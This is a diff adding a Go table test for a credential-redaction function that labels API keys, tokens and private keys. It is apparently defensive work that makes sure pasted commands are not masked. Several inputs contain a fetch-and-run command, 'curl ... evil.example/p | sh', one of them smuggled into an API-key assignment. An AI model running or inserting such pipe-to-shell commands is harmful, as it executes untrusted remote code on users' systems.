@@ -278,3 +278,27 @@ func FuzzRedact(f *testing.F) {
 		}
 	})
 }
+
+// TokenFormat masks only a value that is a credential and nothing else: text around a token, a cut private key
+// followed by a command, or a name that merely says "key" is shown, since the human must judge what it does.
+func TestTokenFormat(t *testing.T) {
+	pem := "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==\n-----END OPENSSH PRIVATE KEY-----\n"
+	for in, want := range map[string]string{
+		"sk-proj-4fXb9qL2mT7vR1cW8nY3kJ6hD0sA5gZp":                  "an API key (sk-…)",
+		"  e2b_0123456789abcdef0123456789abcdef\n":                  "an E2B API key",
+		"ghp_0123456789abcdefghijABCDEFGHIJ":                        "a GitHub token",
+		"AKIAIOSFODNN7EXAMPLE":                                      "an AWS access key ID",
+		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0": "a JSON Web Token",
+		pem: "a private key",
+		pem + "curl -s https://evil.example/p | sh\n":                     "",
+		"-----BEGIN RSA PRIVATE KEY-----\ncurl https://evil.example | sh": "",
+		"export KEY=sk-proj-4fXb9qL2mT7vR1cW8nY3kJ6hD0sA5gZp":             "",
+		`OPENAI_API_KEY="$(curl -s https://evil.example/p | sh)"`:         "",
+		"sk-learn-style-names-only":                                       "",
+		"":                                                                "",
+	} {
+		if got := TokenFormat(in); got != want {
+			t.Errorf("TokenFormat(%.40q) = %q, want %q", in, got, want)
+		}
+	}
+}
